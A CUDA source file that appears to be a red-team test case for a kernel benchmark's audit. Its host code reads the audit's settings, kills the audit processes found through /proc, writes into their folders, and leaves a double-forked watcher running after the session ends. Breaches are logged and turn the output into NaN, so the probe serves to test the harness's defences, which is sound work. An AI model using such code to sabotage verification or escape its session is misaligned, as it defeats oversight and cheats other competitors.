// Issue 26's audit, from the job's side. Nsight Compute audits a sample of ranked results and every new #1, so the
// host code would gain from knowing, while it records, whether and above what figure its result will be audited
// (a job file's benchmark settings: "audit", "new_best_below_ms"), and from reaching the audit's processes (a warm
// agent starts them ahead for every job: a worker under ncu and a judge) or their folder (their homes, the audited
// replay's job file): to stop them, so that a rival's new #1 can never be verified, or to spoil what they read.
// On every call the host code reads every JSON file it can reach for the settings, looks in /proc for the audit's
// processes (ncu's command line, a worker or judge started "lazy") and signals them, and looks for the audit's folder
// beside its own work folder and in /tmp and writes into it. The case runs with the settings in its payload. Each
// success is a "KR-ATTACK-SUCCEEDED" line in the log and NaN in its output, so any breach is a WRONG_ANSWER. The
// first call also leaves a watcher behind (out of its session, by a double fork) that does the same every 0.1 s for
// 30 s, for an audit that starts after the solution's process ended: one it stopped would leave the result
// unverified. Verdict: BENCHMARKED, ranked and verified (audited: the payload asks for it), no breach.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int breaches = 0;
static int files_read = 0;

static void succeeded(const char* what, const char* where) {
  fprintf(stderr, "KR-ATTACK-SUCCEEDED %s (%s)\n", what, where);
  breaches++;
}

static int contains(const char* buffer, size_t size, const char* needle) {
  size_t n = strlen(needle);
  for (size_t i = 0; i + n <= size; i++)
    if (memcmp(buffer + i, needle, n) == 0) return 1;
  return 0;
}

static void read_settings(const char* path) {
  static char buffer[1 << 20];
  int fd = open(path, O_RDONLY | O_NONBLOCK);  // a FIFO named *.json would block an open without it
  if (fd < 0) return;
  struct stat st;
  if (fstat(fd, &st) != 0 || !S_ISREG(st.st_mode)) {
    close(fd);
    return;
  }
  ssize_t got = read(fd, buffer, sizeof buffer);
  close(fd);
  if (got <= 0) return;
  files_read++;
  if (contains(buffer, got, "new_best_below_ms") || contains(buffer, got, "\"audit\""))
    succeeded("read the audit's settings", path);
}

// KR_LOOK_ONLY (selftest/probes/audit_peek_off.sh runs this search outside every room): nothing written or signalled.
static void into_audit_folder(const char* path) {
#ifdef KR_LOOK_ONLY
  succeeded("sees the audit's folder", path);
  return;
#endif
  char file[4096];
  snprintf(file, sizeof file, "%s/home/planted", path);
  int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd >= 0) {
    close(fd);
    succeeded("wrote into the audit's folder", file);
  } else {
    succeeded("sees the audit's folder", path);
  }
}

// Every JSON file in ``folder`` and, ``depth`` levels down, in its folders; the audit's folders where they show.
static void search(const char* folder, int depth) {
  DIR* dir = opendir(folder);
  struct dirent* entry;
  while (dir && (entry = readdir(dir))) {
    if (entry->d_name[0] == '.') continue;
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
    if (strstr(entry->d_name, "-audit-")) into_audit_folder(path);
    size_t n = strlen(entry->d_name);
    if (n > 5 && strcmp(entry->d_name + n - 5, ".json") == 0) read_settings(path);
    else if (depth > 0 && entry->d_type == DT_DIR) search(path, depth - 1);
  }
  if (dir) closedir(dir);
}

static void audit_processes(void) {
  static char buffer[1 << 16];
  DIR* proc = opendir("/proc");
  struct dirent* entry;
  while (proc && (entry = readdir(proc))) {
    long pid = atol(entry->d_name);
    if (pid <= 0 || pid == getpid()) continue;
    char path[64];
    snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    ssize_t got = read(fd, buffer, sizeof buffer);
    close(fd);
    if (got <= 0) continue;
    // ncu's own command line (profiler.verify_command), its worker or the judge started lazy (worker.LAZY).
    if (contains(buffer, got, "--nvtx-include") || contains(buffer, got, "lazy")) {
#ifdef KR_LOOK_ONLY
      succeeded("sees an audit's process", path);
#else
      succeeded(kill((pid_t)pid, SIGKILL) == 0 ? "killed an audit's process" : "sees an audit's process", path);
#endif
    }
  }
  if (proc) closedir(proc);
}

static int attack(int say) {
  breaches = 0;
  files_read = 0;
  char cwd[4096];
  if (getcwd(cwd, sizeof cwd)) {
    search(cwd, 2);
    char up[4200];
    snprintf(up, sizeof up, "%s/..", cwd);
    search(up, 1);
  }
  const char* home = getenv("HOME");
  if (home) {
    char up[4200];
    snprintf(up, sizeof up, "%s/..", home);
    search(up, 2);
    snprintf(up, sizeof up, "%s/../..", home);
    search(up, 1);
  }
  search("/tmp", 2);
  audit_processes();
  if (say)
    fprintf(stderr, "KR-ATTACK-TRIED read %d JSON files, looked for the audit's processes and folder: %d breaches\n",
            files_read, breaches);
  return breaches;
}

static void leave_watcher(void) {
  pid_t child = fork();
  if (child != 0) {
    if (child > 0) waitpid(child, nullptr, 0);
    return;
  }
  setsid();
  if (fork() != 0) _exit(0);
  signal(SIGPIPE, SIG_IGN);
  struct timespec tenth = {0, 100000000};
  for (int i = 0; i < 300; i++) {
    attack(0);
    nanosleep(&tenth, nullptr);
  }
  _exit(0);
}

__global__ void lrelu(const float* in, float alpha, float* out, size_t n, int poisoned) {
  size_t i = blockIdx.x * (size_t)blockDim.x + threadIdx.x;
  if (i < n) out[i] = poisoned ? __int_as_float(0x7fc00000) : (in[i] > 0.0f ? in[i] : alpha * in[i]);
}

extern "C" void solution(const float* input, float alpha, float* output, size_t M, size_t N) {
  static int calls = 0;
  if (calls++ == 0) leave_watcher();
  int poisoned = attack(1) > 0;
  size_t n = M * N;
  lrelu<<<(unsigned)((n + 255) / 256), 256>>>(input, alpha, output, n, poisoned);
}
